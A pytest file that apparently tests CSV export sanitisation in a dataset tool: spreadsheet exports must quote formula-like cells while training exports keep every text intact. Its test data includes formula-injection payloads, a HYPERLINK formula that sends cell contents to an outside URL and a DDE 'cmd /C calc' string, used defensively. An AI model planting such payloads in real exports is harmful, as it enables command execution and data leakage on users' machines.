"""Exports for spreadsheets have no formulas; those for training have every text as it is."""

import csv
from collections.abc import Iterator
from pathlib import Path

import pytest

from lumenmill.orchestrator.v1 import run_pb2
from lumenmill_common.errors import InvalidArgumentError
from lumenmill_common.settings import StoreSettings
from lumenmill_orchestrator.exporters.csv_lines import csv_line

from .postgres import postgres_server
from .stores import minio, stored  # noqa: F401 - fixtures
from .synthetic import Archive, image_sample

_FORMULAS = [
    '=HYPERLINK("http://x/?"&A1,"photo")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1"
]  # fmt: skip
_PLAIN = ["a kettle = a pot", "1 + 1", "'quoted'", "é, “light”"]


@pytest.fixture(params=["sqlite", "postgres"])
def archive(request: pytest.FixtureRequest, tmp_path: Path, stored: StoreSettings) -> Iterator[Archive]:  # noqa: F811
    if request.param == "sqlite":
        made = Archive(tmp_path, stored)
        yield made
        made.close()
        return
    with postgres_server(tmp_path) as server:
        made = Archive(tmp_path, stored, server.url)
        yield made
        made.close()


def _prompts(folder: Path) -> list[str]:
    """Return the cells as a spreadsheet reads them: every file of the dataset that it opens."""
    prompts = []
    for path in sorted(folder.rglob("metadata*.csv")):
        with path.open(newline="", encoding="utf-8") as rows:
            prompts += [row["prompt"] for row in csv.DictReader(rows)]
    return prompts


async def test_texts_like_formulas_are_quoted_on_request_only(archive: Archive, tmp_path: Path) -> None:
    texts = _FORMULAS + _PLAIN
    captioned = [image_sample(archive, "run", number, 0) for number in range(len(texts))]
    for sample, text in zip(captioned, texts, strict=True):
        sample.caption = text
    instructed = [image_sample(archive, "run", number, 1, instruction=text) for number, text in enumerate(texts)]
    archive.add([*captioned, *instructed])
    await archive.export("run", "DIFFSYNTH", tmp_path / "train")
    assert set(texts) <= set(_prompts(tmp_path / "train")), "training gets every text as it is"
    await archive.export("run", "DIFFSYNTH", tmp_path / "sheet", for_spreadsheets=True)
    prompts = _prompts(tmp_path / "sheet")
    assert not any(prompt.startswith(("=", "+", "-", "@", "\t", "\r", "\n", "＝")) for prompt in prompts)
    assert {f"'{text}" for text in _FORMULAS} | set(_PLAIN) <= set(prompts)
    assert len(prompts) == len(_prompts(tmp_path / "train"))


@pytest.mark.parametrize("export_format", ["PARQUET", "IMAGEFOLDER", "WEBDATASET", "VIDEOX_FUN"])
async def test_formats_without_csv_files_refuse_the_option(tmp_path: Path, export_format: str) -> None:
    archive = Archive(tmp_path)
    error = await archive.error_of("run", export_format, for_spreadsheets=True)
    assert isinstance(error, InvalidArgumentError) and error.field == "for_spreadsheets"
    archive.close()


def test_numbers_are_never_quoted() -> None:
    assert csv_line([-5, -0.5, "-5", "x"], for_spreadsheets=True) == "-5,-0.5,'-5,x\n"
    assert csv_line([-5, "=1"]) == "-5,=1\n"
    assert not run_pb2.ExportRunRequest().for_spreadsheets, "off by default"
